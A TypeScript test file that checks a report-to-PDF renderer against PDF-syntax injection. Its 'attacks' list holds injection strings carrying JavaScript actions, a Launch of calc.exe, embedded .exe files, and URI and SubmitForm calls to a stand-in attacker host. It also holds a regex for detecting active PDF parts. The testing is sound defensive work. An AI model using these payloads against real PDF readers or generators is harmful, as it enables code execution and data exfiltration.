import { describe, expect, it } from 'vitest';
import { anAnswer, aRecommendation } from '../testing/answers.ts';
import { aHealthResult } from '../testing/health-results.ts';
import { aDueDiligenceReport, anAdvancedReport, anRoiReport } from '../testing/reports.ts';
import type { PdfRequest } from './documents.ts';
import { toGlyphs } from './glyphs.ts';
import { renderPdf } from './render-pdf.ts';
import { pdfName } from './save-document.ts';
import { pdfNamesIn } from './testing/pdf-names-in.ts';
import { readBack, squeezed } from './testing/read-back.ts';

/** Words that end a PDF string, an object or a line, and go on in the language of PDF. */
const attacks = [
  ') Tj ET /JS (app.alert(1)) BT (',
  ')>>endobj 99 0 obj <</S/JavaScript/JS(app.alert(1))>>endobj',
  '\\) /OpenAction <</S/Launch/F(calc.exe)>>',
  ') /URI (https://evil.example/?d=',
  '>> /AA <</O <</S/SubmitForm/F(https://evil.example)>>>>',
  '\r\n/EmbeddedFile /Type /Filespec /UF (x.exe)',
  '<</Subtype/FreeText/RC(<body>x</body>)>>',
  '(((((',
  ')))))',
  '\\\\\\)',
  'endstream endobj trailer <</Root 1 0 R>> startxref 0 %%EOF',
  '\u0000\u0008) /JS (',
] as const;
const attack = attacks.join(' ');

/** Words a person or a model wrote hold a blank; ids, dates and choices do not. */
const poisoned = <T>(value: T): T => {
  if (typeof value === 'string') return (value.includes(' ') ? `${value} ${attack}` : value) as T;
  if (Array.isArray(value)) return value.map(poisoned) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, poisoned(one)])) as T;
};

const answer = anAnswer({ recommendations: [aRecommendation()] });
const requests: PdfRequest[] = [
  { kind: 'due-diligence', report: aDueDiligenceReport() },
  { kind: 'advanced-due-diligence', report: anAdvancedReport() },
  { kind: 'roi-report', report: anRoiReport() },
  { kind: 'vendor-health', report: aHealthResult({ companyName: 'A company', additionalNotes: 'Some notes.' }) },
  {
    kind: 'conversation',
    conversation: {
      sessionId: answer.sessionId,
      exportedAt: answer.timestamp,
      dataVersion: answer.dataVersion,
      messages: [
        { type: 'user', content: 'A question.', timestamp: answer.timestamp, citations: [], aiResponse: null },
        {
          type: 'ai',
          content: answer.response,
          timestamp: answer.timestamp,
          citations: answer.citations,
          aiResponse: answer,
        },
      ],
    },
  },
];

/** What makes a document act: scripts, links, forms, files and programs. */
const active =
  /^(?:JS|JavaScript|URI|Launch|EmbeddedFiles?|Filespec|AA|SubmitForm|ImportData|GoTo[RE]|RichMedia|AcroForm|Annots?|FreeText|XFA|Rendition|Movie|Sound)$/;

describe.each(requests)('a document of $kind', (request) => {
  const file = renderPdf(poisoned(request));

  it('prints the language of its own format as text and holds nothing that acts [fault 53]', async () => {
    const names = [...(await pdfNamesIn(file))];
    expect(names).toEqual(expect.arrayContaining(['Catalog', 'Page', 'Font', 'Outlines']));
    expect(names.filter((name) => active.test(name))).toEqual([]);
    const pdf = await readBack(file);
    expect(pdf.activeParts).toBe(0);
    for (const one of attacks) expect(squeezed(pdf.body), one).toContain(squeezed(toGlyphs(one)));
  });

  it('has a file name without a path, a line break or a second ending [fault 53]', () => {
    expect(pdfName(request)).toMatch(/^[A-Za-z0-9_-]+\.pdf$/);
  });
});
